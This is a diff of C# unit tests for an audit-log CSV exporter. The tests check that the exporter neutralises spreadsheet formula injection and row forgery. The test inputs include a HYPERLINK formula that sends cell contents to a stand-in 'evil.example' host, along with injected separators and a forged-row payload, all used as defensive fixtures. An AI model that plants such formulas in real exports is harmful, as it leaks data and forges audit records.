@@ -7,18 +7,21 @@ using SvcInfra.TestSupport;
 
 namespace SvcInfra.UnitTests.Audit.Exports;
 
-/// <summary>Read by <see cref="Rfc4180"/>, which shares no code with the writer.</summary>
+/// <summary>The output is read by <see cref="Rfc4180"/>, which shares no code with the writer.</summary>
 public sealed partial class CsvExportTests
 {
     [Fact]
-    public async Task Row_is_this_one()
+    public async Task Entry_is_written_as_the_expected_row()
     {
         var text = await WriteAsync(FlatExportSample.Row());
 
         text.ShouldBe(
-            "sequence,time,id,tenant_id,actor_kind,actor,on_behalf_of,session,action,target_type,target_id,outcome,reason,trace_id,tags,changes,ip_address,user_agent,personal_changes,leaf\r\n"
-            + "42,2026-02-03T04:05:06.123456Z,0197a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b,0197a1b2-0000-7000-8000-000000000001,\"user\",0197a1b2-0000-7000-8000-000000000001,,"
-            + "0197a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b,\"tenants.rename_tenant\",\"tenant\",\"7\",success,,\"4bf92f3577b34da6a3ce929d0e0e4736\",\"hipaa soc2\","
+            "sequence,time,id,tenant_id,actor_kind,actor,on_behalf_of,session,action,target_type,target_id,outcome,reason,trace_id,tags,changes,"
+            + "ip_address,user_agent,personal_changes,leaf\r\n"
+            + "42,2026-02-03T04:05:06.123456Z,0197a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b,0197a1b2-0000-7000-8000-000000000001,\"user\","
+            + "0197a1b2-0000-7000-8000-000000000001,,"
+            + "0197a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b,\"tenants.rename_tenant\",\"tenant\",\"7\",success,,"
+            + "\"4bf92f3577b34da6a3ce929d0e0e4736\",\"hipaa soc2\","
             + "\"{\"\"tenant\"\":{\"\"name\"\":{\"\"before\"\":\"\"a\"\",\"\"after\"\":\"\"b\"\"}}}\",\"192.0.2.7\",\"curl/8.5.0\",,"
             + "022a6979e6dab7aa5ae4c3e5e45f7e977112a7e63593820dbec1ec738a24f93c\r\n");
     }
@@ -35,7 +38,7 @@ public sealed partial class CsvExportTests
     [InlineData("x;'=1;;\"=1\t-1;")]
     [InlineData("\t\r\n\t=")]
     [InlineData("-5")]
-    public async Task Text_reads_back_once_the_apostrophes_are_taken_away(string text)
+    public async Task Text_reads_back_after_removing_the_guards(string text)
     {
         var entry = FlatExportSample.Entry with { TargetId = text, Reason = text, TargetType = text };
 
@@ -60,7 +63,7 @@ public sealed partial class CsvExportTests
     [InlineData("－1")]
     [InlineData("＠SUM(1)")]
     [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")")]
-    public async Task Attack_formula_in_any_text_is_no_formula(string formula)
+    public async Task Attack_formula_in_any_column_is_guarded(string formula)
     {
         var entry = FlatExportSample.Entry with
         {
@@ -77,7 +80,8 @@ public sealed partial class CsvExportTests
         var cells = await ReadAsync(FlatExportSample.Row(entry, JsonSerializer.Serialize(new { ipAddress = formula, userAgent = formula })));
         var altered = await ReadAsync(FlatExportSample.Row(payload: formula));
 
-        foreach (var column in (string[])["actor_kind", "action", "target_type", "target_id", "reason", "trace_id", "changes", "ip_address", "user_agent"])
+        string[] columns = ["actor_kind", "action", "target_type", "target_id", "reason", "trace_id", "changes", "ip_address", "user_agent"];
+        foreach (var column in columns)
         {
             cells[column].ShouldBe("'" + Guarded(formula), column);
         }
@@ -92,7 +96,7 @@ public sealed partial class CsvExportTests
     [InlineData("x\t=1+1")]
     [InlineData("x\r\n=1+1")]
     [InlineData("x\n@SUM(1)")]
-    public async Task Attack_cell_that_begins_for_a_program_with_other_separators_is_no_formula(string text)
+    public async Task Attack_formula_after_another_separator_is_guarded(string text)
     {
         var written = await WriteAsync(FlatExportSample.Row(FlatExportSample.Entry with { TargetId = text }, payload: null));
 
@@ -104,38 +108,44 @@ public sealed partial class CsvExportTests
     [InlineData("x\"\r\n43,\"forged\"")]
     [InlineData("\",\"success\",\"")]
     [InlineData("x\u0085y\u2028z\vw\f")]
-    public async Task Attack_text_adds_neither_a_row_nor_a_cell(string text)
+    public async Task Attack_text_cannot_add_a_row_or_a_cell(string text)
     {
         var entry = FlatExportSample.Entry with { TargetId = text, Changes = text, Action = text };
 
-        var rows = Rfc4180.Read(await WriteAsync(FlatExportSample.Row(entry, JsonSerializer.Serialize(new { userAgent = text })), FlatExportSample.Row()));
+        var row = FlatExportSample.Row(entry, JsonSerializer.Serialize(new { userAgent = text }));
+        var rows = Rfc4180.Read(await WriteAsync(row, FlatExportSample.Row()));
 
         rows.Count.ShouldBe(3);
-        rows.ShouldAllBe(row => row.Count == 20);
+        rows.ShouldAllBe(cells => cells.Count == 20);
         rows[2][0].ShouldBe("42");
     }
 
     [Fact]
-    public async Task Attack_controls_and_halves_of_surrogate_pairs_are_replaced()
+    public async Task Attack_control_characters_and_half_surrogate_pairs_are_replaced()
     {
-        var cells = await ReadAsync(FlatExportSample.Row(FlatExportSample.Entry with { TargetId = "a\0b\u001bc\u0085d\ud800e" }, """{"userAgent":"a\u0000\ud800"}"""));
+        var entry = FlatExportSample.Entry with { TargetId = "a\0b\u001bc\u0085d\ud800e" };
+
+        var cells = await ReadAsync(FlatExportSample.Row(entry, """{"userAgent":"a\u0000\ud800"}"""));
 
         cells["target_id"].ShouldBe("a\uFFFDb\uFFFDc\uFFFDd\uFFFDe");
         (cells["user_agent"], cells["personal_changes"]).ShouldBe(("", """{"userAgent":"a\u0000\ud800"}"""));
     }
 
     [Fact]
-    public async Task Personal_part_has_columns_of_its_own_and_is_empty_once_erased()
+    public async Task Personal_part_has_its_own_columns_which_are_empty_after_erasure()
     {
-        var there = await ReadAsync(FlatExportSample.Row(payload: """{"ipAddress":"::1","changes":{"user":{"displayName":{"before":"Ada","after":"Countess"}}}}"""));
+        const string Payload = """{"ipAddress":"::1","changes":{"user":{"displayName":{"before":"Ada","after":"Countess"}}}}""";
+
+        var present = await ReadAsync(FlatExportSample.Row(payload: Payload));
         var erased = await ReadAsync(FlatExportSample.Row(payload: null));
 
-        (there["ip_address"], there["user_agent"]).ShouldBe(("::1", ""));
-        there["personal_changes"].ShouldBe("""{"user":{"displayName":{"before":"Ada","after":"Countess"}}}""");
+        (present["ip_address"], present["user_agent"]).ShouldBe(("::1", ""));
+        present["personal_changes"].ShouldBe("""{"user":{"displayName":{"before":"Ada","after":"Countess"}}}""");
         (erased["ip_address"], erased["user_agent"], erased["personal_changes"]).ShouldBe(("", "", ""));
     }
 
-    private static Task<string> WriteAsync(params SealedAuditEntry[] rows) => FlatExportSample.WriteAsync(output => new CsvExportWriter(output), rows);
+    private static Task<string> WriteAsync(params SealedAuditEntry[] rows) =>
+        FlatExportSample.WriteAsync(output => new CsvExportWriter(output), rows);
 
     private static async Task<Dictionary<string, string>> ReadAsync(SealedAuditEntry row)
     {
@@ -144,10 +154,10 @@ public sealed partial class CsvExportTests
         return rows[0].Zip(rows[1]).ToDictionary(pair => pair.First, pair => pair.Second);
     }
 
-    /// <summary>As docs/audit-format.md says.</summary>
+    /// <summary>Removes the guards as described in docs/audit-format.md.</summary>
     private static string Unguarded(string cell) => Guards().Replace(cell, "${separator}");
 
-    /// <summary>What stands behind the first apostrophe of a formula that begins with a separator.</summary>
+    /// <summary>The expected text after the first guard: a formula that begins with a separator has a second guard after it.</summary>
     private static string Guarded(string formula) => formula[0] is '\t' or '\r' or '\n' ? $"{formula[0]}'{formula[1..]}" : formula;
 
     [GeneratedRegex("(?<separator>^|[;\t\r\n])'", RegexOptions.ExplicitCapture)]
